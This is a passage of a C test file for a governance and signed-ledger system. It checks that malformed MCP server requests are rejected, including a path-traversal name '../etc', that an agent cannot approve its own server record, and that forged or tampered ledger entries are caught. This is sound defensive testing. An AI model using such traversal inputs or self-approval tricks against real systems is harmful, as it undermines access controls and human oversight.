	cr_expect(json_is_true(json_object_get(reply, "synced")));
	json_decref(reply);
	cr_expect_eq(gv_mcp("{\"server_name\": \"fetch\", \"image\": \"evil/fetch\"}",
			    3600, &reply, &retry, &e), ERR_CONFLICT);
	cr_expect_eq(retry, 0);

	/* revoked: can be asked for again at once */
	gv_mcp_status("fetch", "revoked");
	cr_assert_eq(gv_mcp(req, 3600, &reply, &retry, &e), 0, "%s", e.msg);
	cr_expect_str_eq(gv_s(reply, "status"), "pending");
	json_decref(reply);
}

Test(governance, mcp_bad_bodies_and_self_approval)
{
	static const struct {
		const char *json, *field;
	} cases[] = {
		{ "{}", "server_name" },
		{ "{\"server_name\": \"\"}", "server_name" },
		{ "{\"server_name\": 3}", "server_name" },
		{ "{\"server_name\": \"../etc\"}", "server_name" },
		{ "{\"server_name\": \"a b\"}", "server_name" },
		{ "{\"server_name\": \"ok\", \"config_schema\": \"x\"}", "config_schema" },
		{ "{\"server_name\": \"ok\", \"reason\": []}", "reason" },
	};
	struct err e = ERR_INIT;
	struct store_txn *t;
	struct store_put p;
	struct record after;
	json_t *reply, *data;
	int64_t retry;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		err_clear(&e);
		cr_expect_eq(gv_mcp(cases[i].json, 3600, &reply, &retry, &e),
			     ERR_INVALID, "case %zu", i);
		cr_expect_str_eq(e.field, cases[i].field, "case %zu", i);
	}
	/* the agent creating an approved row through the records API */
	data = json_pack("{s:s, s:s}", "name", "sneaky", "status", "approved");
	memset(&p, 0, sizeof(p));
	p.collection = "mcp_servers";
	p.data = data;
	p.mode = STORE_CREATE;
	record_init(&after);
	cr_assert_eq(store_begin(lg_store, &t, &e), 0);
	store_txn_set_actor(t, gv_agent, 0);
	cr_expect_eq(store_txn_put(t, &p, &after, NULL, &e), ERR_FORBIDDEN);
	store_abort(t);
	record_release(&after);
	/* an admin may, and is recorded */
	record_init(&after);
	cr_assert_eq(store_begin(lg_store, &t, &e), 0);
	store_txn_set_actor(t, lg_admin, 0);
	cr_expect_eq(store_txn_put(t, &p, &after, NULL, &e), 0, "%s", e.msg);
	cr_expect_str_eq(lg_str(&after, "approved_by"), lg_admin);
	cr_assert_eq(store_commit(t, &e), 0);
	record_release(&after);
	json_decref(data);
}

static int lg_collect(const struct record *r, void *arg)
{
	return json_array_append_new(arg, record_to_json(r)) ? ERR_NOMEM : 0;
}

Test(ledger, verify_records_gives_the_trusted_prefix)
{
	struct err e = ERR_INIT;
	char pa[ID_LEN + 1];
	json_t *sops = json_array(), *rep = NULL, *trusted = NULL, *forged;

	lg_three(pa);
	cr_assert_eq(store_list(lg_store, "sops", NULL, lg_collect, sops, &e), 0);
	cr_assert_eq(ledger_verify_records(sops, &rep, &trusted, &e), 0);
	cr_expect(json_is_true(json_object_get(rep, "ok")));
	cr_expect_eq(json_array_size(trusted), 3);
	json_decref(rep);
	json_decref(trusted);

	/* a forged entry with a valid signature but no place in the chain */
	forged = json_deep_copy(json_array_get(sops, 0));
	json_object_set_new(forged, "id", json_string("aaaaaaaaaaaaaaa"));
	json_array_append_new(sops, forged);
	cr_assert_eq(ledger_verify_records(sops, &rep, &trusted, &e), 0);
	cr_expect(json_is_false(json_object_get(rep, "ok")));
	cr_expect_str_eq(json_string_value(json_object_get(json_object_get(rep,
		"firstBad"), "id")), "aaaaaaaaaaaaaaa");
	cr_expect_eq(json_array_size(trusted), 0);
	json_decref(rep);
	json_decref(trusted);
	json_array_remove(sops, 3);

	/* one byte of entry 2 changed: only entry 1 is trusted */
	json_object_set_new(json_object_get(json_array_get(sops, 1), "data"),
			    "content", json_string("twO\n"));
	cr_assert_eq(ledger_verify_records(sops, &rep, &trusted, &e), 0);
	cr_expect_eq(json_array_size(trusted), 1);
	cr_expect_str_eq(json_string_value(json_object_get(json_array_get(trusted, 0),
		"id")), "sop000000000001");
	cr_expect_eq(json_integer_value(json_object_get(rep, "verified")), 1);
	json_decref(rep);
	json_decref(trusted);
	forged = json_object();
	cr_expect_eq(ledger_verify_records(forged, &rep, NULL, &e), ERR_INVALID);
	json_decref(forged);
	json_decref(sops);
}
